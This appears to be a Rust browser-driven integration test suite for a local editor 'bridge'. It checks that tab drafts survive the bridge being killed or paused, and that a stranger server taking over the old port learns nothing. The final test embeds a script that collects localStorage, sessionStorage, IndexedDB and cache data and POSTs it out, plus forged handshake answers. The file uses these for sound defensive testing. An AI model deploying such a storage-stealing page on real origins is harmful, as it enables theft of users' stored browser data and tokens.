//! A bridge ends, however, and starts again: the same tab goes on with its draft, and whoever answers meanwhile learns nothing.

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddrV4, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::thread;

use rustix::process::Signal;
use serde_json::Value;

use crate::browser::Browser;
use crate::finger::Finger;
use crate::running::comes_true;
use crate::shown::Shown;

/// A user with a pad, whose bridge starts and ends.
struct User {
    home: tempfile::TempDir,
    finger: Finger,
}

impl User {
    fn new() -> Self {
        Self { home: tempfile::tempdir().unwrap(), finger: Finger::start() }
    }

    fn start(&self) -> Shown {
        let folder = tempfile::tempdir().unwrap();
        let shown = Shown::start_at(self.home.path(), folder, &self.finger.address(), "contra");
        shown.wait_until_playing();
        shown
    }

    fn profile(&self) -> Option<String> {
        fs::read_to_string(self.home.path().join("tactpad/profiles/contra.toml")).ok()
    }
}

fn kill(mut shown: Shown) -> String {
    shown.running.signal(Signal::KILL);
    shown.running.ends();
    shown.host.clone()
}

fn port(host: &str) -> u16 {
    host.parse::<SocketAddrV4>().unwrap().port()
}

/// Puts a threshold into the text, as somebody who types does.
fn write(browser: &Browser, press_n: &str) {
    browser.run(&format!(
        "const area = document.getElementById('profile-text'); \
         area.value = area.value.replace(/^press_n = .*$/m, 'press_n = {press_n}'); \
         area.dispatchEvent(new Event('input', {{ bubbles: true }}))"
    ));
}

fn open_editor(browser: &Browser) {
    browser.view("profile");
    browser.wait("document.getElementById('profile-text')?.value.includes('press_n')");
}

/// A bridge that plays the draft of a tab. None without a browser.
fn drafted() -> Option<(User, Shown, Browser)> {
    let user = User::new();
    let shown = user.start();
    let browser = Browser::open(&shown.url)?;
    open_editor(&browser);
    write(&browser, "2.5");
    assert!(comes_true(|| shown.status()["preview"] == true));
    Some((user, shown, browser))
}

fn wait_for_draft(browser: &Browser, host: &str, press_n: &str) {
    browser.wait(&format!(
        "location.host === '{host}' && document.getElementById('profile-text')?.value.includes('press_n = {press_n}\\n')"
    ));
}

const IS_LOST: &str = "document.getElementById('connection').textContent.includes('has ended')";

#[test]
fn the_same_tab_goes_on_with_the_draft_of_a_bridge_that_was_killed_also_after_a_reload() {
    let Some((user, shown, browser)) = drafted() else { return };
    let first = kill(shown);
    browser.wait(IS_LOST);
    write(&browser, "2.75");

    let shown = user.start();
    assert_eq!(port(&shown.host), port(&first), "the port stays");
    assert_ne!(shown.host, first, "whoever was there meanwhile may have left something");
    wait_for_draft(&browser, &shown.host, "2.75");
    browser.wait("document.getElementById('draft-state').textContent.includes('not saved')");
    browser.wait("Number(document.documentElement.dataset.updates) > 50");
    let told = browser.run("return document.querySelector('.editor-message').textContent");
    assert!(told.as_str().unwrap().contains("Your draft of contra"), "{told}");
    assert_eq!(browser.run("return location.hash"), "#profile");
    assert_eq!(shown.status()["preview"], false, "it may be why the bridge was killed");
    browser.reload();
    wait_for_draft(&browser, &shown.host, "2.75");

    // The tab is loaded anew at the address of the bridge that was killed.
    kill(shown);
    let shown = user.start();
    browser.reload();
    wait_for_draft(&browser, &shown.host, "2.75");
    browser.click("#preview");
    assert!(comes_true(|| shown.status()["preview"] == true));
    browser.click("#save");
    assert!(comes_true(|| user.profile().is_some_and(|text| text.contains("press_n = 2.75\n"))));
    browser.wait("!Object.keys(localStorage).some((entry) => entry.startsWith('tactpad-draft'))");
}

#[test]
fn a_page_whose_bridge_has_ended_shows_no_finger_no_state_and_what_to_do() {
    let user = User::new();
    let shown = user.start();
    let Some(browser) = Browser::open(&shown.url) else { return };
    user.finger.press(15.0, 0.0, 3.0);
    browser.wait("document.querySelector('#contact').parentElement.getAttribute('visibility') === 'visible'");
    browser.wait("document.getElementById('state').textContent === 'playing'");
    kill(shown);
    browser.wait(IS_LOST);
    browser.wait("document.querySelector('#contact').parentElement.getAttribute('visibility') === 'hidden'");
    let shows = browser.run(
        "return [document.getElementById('state').textContent, document.querySelectorAll('#live .sector').length, \
         document.querySelector('[aria-label=\"Held controls\"]').textContent, document.querySelector('.meter-value').textContent, \
         document.getElementById('state').parentElement.className]",
    );
    assert_eq!(shows, serde_json::json!(["not connected", 0, "nothing", "–", "state bad"]));
    browser.click("#pause");
    browser.wait("document.getElementById('failure').textContent.includes('start it again')");
}

#[test]
fn a_bridge_that_stands_still_is_told_and_its_tab_goes_on_where_it_was() {
    let Some((_user, shown, browser)) = drafted() else { return };
    browser.run("window.isTheSamePage = true");
    shown.running.signal(Signal::STOP);
    browser.wait(IS_LOST);
    shown.running.signal(Signal::CONT);
    browser.wait("document.getElementById('connection').textContent === ''");
    assert!(comes_true(|| shown.status()["preview"] == true), "the draft is played again");
    assert_eq!(browser.run("return window.isTheSamePage"), true);
}

#[test]
fn several_tabs_go_on_with_their_own_drafts() {
    let Some((user, shown, browser)) = drafted() else { return };
    let first = browser.open_tab(&shown.url);
    open_editor(&browser);
    browser.wait("document.getElementById('draft-state').textContent === '✓ saved'");
    write(&browser, "3.5");
    browser.wait("document.getElementById('draft-state').textContent.includes('not saved')");
    kill(shown);
    let shown = user.start();
    wait_for_draft(&browser, &shown.host, "3.5");
    browser.tab(&first);
    wait_for_draft(&browser, &shown.host, "2.5");
    browser.run("document.getElementById('revert').click()");
    browser.wait("document.getElementById('draft-state').textContent === '✓ saved'");
    let kept = "return Object.keys(localStorage).filter((entry) => entry.startsWith('tactpad-draft')).length";
    assert!(comes_true(|| browser.run(kept) == 1), "the other tab's stays");
}

/// What a stranger's page tells of all that the browser keeps for its address.
const LOOT: &str = "<!doctype html><script>\
    (async () => { const bases = await indexedDB.databases(); const caches_ = await caches.keys(); \
    await fetch('/loot', { method: 'POST', body: JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), bases, caches_, location.href]) }); \
    document.title = 'looted'; })();</script>";

/// A program that answers where the page was, and keeps all that it is told.
struct Stranger {
    address: String,
    heard: Arc<Mutex<String>>,
}

impl Stranger {
    fn start(address: &str) -> Self {
        let heard = Arc::<Mutex<String>>::default();
        let all = Arc::clone(&heard);
        let listener = TcpListener::bind(address).unwrap();
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let said = answered(stream).unwrap_or_default();
                all.lock().unwrap().push_str(&said);
                if said.starts_with("GET /leave") {
                    return;
                }
            }
        });
        Self { address: address.to_owned(), heard }
    }

    fn heard(&self) -> String {
        self.heard.lock().unwrap().clone()
    }

    /// Nobody answers there any more.
    fn leave(self) {
        let mut stream = TcpStream::connect(&self.address).unwrap();
        stream.write_all(b"GET /leave HTTP/1.1\r\n\r\n").unwrap();
        assert!(comes_true(|| TcpListener::bind(&self.address).is_ok()));
    }
}

/// Answers one request as if it were the bridge's, as far as a stranger can; what was said.
fn answered(stream: TcpStream) -> Option<String> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut said = String::new();
    while reader.read_line(&mut said).ok()? > 2 {}
    let length = |line: &str| line.to_lowercase().strip_prefix("content-length: ")?.trim().parse().ok();
    let mut body = vec![0; said.lines().find_map(length).unwrap_or(0)];
    reader.read_exact(&mut body).ok()?;
    said.push_str(&String::from_utf8_lossy(&body));
    let forged = format!(
        r#"{{"origin":"http://127.66.6.6:{}","token":"x","proof":"{}"}}"#,
        stream.local_addr().ok()?.port(),
        "00".repeat(32)
    );
    let (kind, answer) = match said.starts_with("GET / ") {
        true => ("text/html", LOOT),
        false => ("application/json", forged.as_str()),
    };
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n", answer.len());
    write!(&stream, "{head}Connection: close\r\n\r\n{answer}").ok()?;
    Some(said + "\n")
}

#[test]
fn whoever_answers_where_the_page_was_learns_nothing_and_can_do_nothing_later() {
    let Some((user, shown, browser)) = drafted() else { return };
    let (token, keys) = (shown.token.clone(), shown.ask("GET /api/keys", "").json());
    let stranger = Stranger::start(&kill(shown));
    let handshakes = || stranger.heard().matches("POST /handshake").count();
    assert!(comes_true(|| handshakes() >= 3), "{}", stranger.heard());
    assert_eq!(browser.run("return location.host"), stranger.address.as_str());
    browser.wait(IS_LOST);
    write(&browser, "2.75");
    let knows = |word: &str| stranger.heard().contains(word);
    assert!(!knows(&token) && !knows("press_n") && !knows("/api/"), "{}", stranger.heard());

    // Its page stands where the bridge's was, and is told all that the browser keeps for it.
    browser.reload();
    browser.wait("document.title === 'looted'");
    assert!(knows("tactpad-draft-"), "{}", stranger.heard());
    let secrets = ["press_n", "contra", keys["proofs"].as_str().unwrap(), keys["drafts"].as_str().unwrap()];
    for secret in secrets {
        assert!(!knows(secret), "{secret}: {}", stranger.heard());
    }
    stranger.leave();
    let shown = user.start();
    // What it left in the tab asks as the page would.
    let asked = "const answer = fetch('/handshake', { method: 'POST', headers: { 'Content-Type': 'application/json' }, \
                 body: JSON.stringify({ nonce: '0'.repeat(64) }) }).then((response) => response.json()); \
                 const get = (path, token) => fetch(path, { headers: { Authorization: `Bearer ${token}` } }).then((response) => response.status, () => 0); \
                 return Promise.all([answer, answer.then(({ token }) => get('/api/status', token)), get('/api/keys', sessionStorage['tactpad-token']), \
                 answer.then(({ origin }) => get(`${origin}/api/status`, '')), answer.then(({ origin }) => get(`${origin}/open`, ''))])";
    let got = browser.run(asked);
    assert_eq!(got[0]["token"], "", "{got}");
    assert_eq!(
        [&got[1], &got[2], &got[3], &got[4]].map(Value::as_u64),
        [Some(401), Some(401), Some(0), Some(0)]
    );
    browser.reload();
    wait_for_draft(&browser, &shown.host, "2.75");
}
